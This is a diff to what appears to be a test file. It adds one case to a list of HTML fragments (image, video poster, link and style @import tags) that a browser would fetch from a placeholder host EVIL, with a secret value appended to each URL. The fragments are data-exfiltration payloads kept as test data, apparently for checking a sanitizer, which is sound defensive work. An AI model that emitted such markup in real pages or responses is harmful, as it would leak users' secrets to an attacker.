@@ -58,6 +58,7 @@ FETCHED = [
     "<video poster=x'<CREDIT_CARD_1>>",
     f"<img alt=x <a src={EVIL}<CREDIT_CARD_1>>",  # one <img> tag in a browser
     f"<a href=x'y><img src={EVIL}<CREDIT_CARD_1>>",  # a quote inside a value opens nothing
+    f"<a href=alt='- <b>\n<link href={EVIL}<CREDIT_CARD_1>'>",  # nor after an "=" in it
     f"<style>@import '{EVIL}<CREDIT_CARD_1>';</style>",
 ]
 
